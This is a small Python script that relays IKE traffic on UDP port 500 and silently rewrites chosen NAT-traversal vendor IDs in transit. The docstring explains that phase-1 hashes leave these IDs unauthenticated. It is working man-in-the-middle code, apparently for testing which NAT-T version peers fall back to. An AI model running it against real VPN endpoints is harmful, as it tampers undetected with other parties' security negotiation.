#!/usr/bin/env python3
"""nat-drafts.py ADDRESS HIDDEN: stands before UDP port 500 of ADDRESS, at port 5500 of the router, and makes those vendor IDs of NAT traversal
unknown that HIDDEN names, by commas. No hash of phase 1 covers vendor IDs (RFC 2409 5), so neither side notices; what is left, they agree on."""
import select
import socket
import sys

IDS = {
    "rfc3947": "4a131c81070358455c5728f20e95452f",
    "draft03": "7d9419a65310ca6f2c179d9215529d56",
    "draft02n": "90cb80913ebb696e086381b5ec427b1f",  # of the name with a newline behind it, which all send
    "draft02": "cd60464335df21f87cfdb2fc68b6a448",
    "draft01": "16f6ca16e4a4066d83821a0f0aeaa862",
    "draft00": "4485152d18b6bbcd0be8a8469579ddcc",
}
address, hidden = sys.argv[1], [bytes.fromhex(IDS[name]) for name in sys.argv[2].split(",")]
inside, outside = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
inside.bind(("0.0.0.0", 5500))
outside.connect((address, 500))
print("stands between")
client = None
while True:
    for ready in select.select([inside, outside], [], [])[0]:
        datagram, sender = ready.recvfrom(65535)
        for vendor_id in hidden:
            if vendor_id in datagram:
                datagram = datagram.replace(vendor_id, bytes(octet ^ 0xFF for octet in vendor_id))
                print("hides", vendor_id.hex())
        if ready is inside:
            client = sender
            outside.send(datagram)
        elif client:
            inside.sendto(datagram, client)
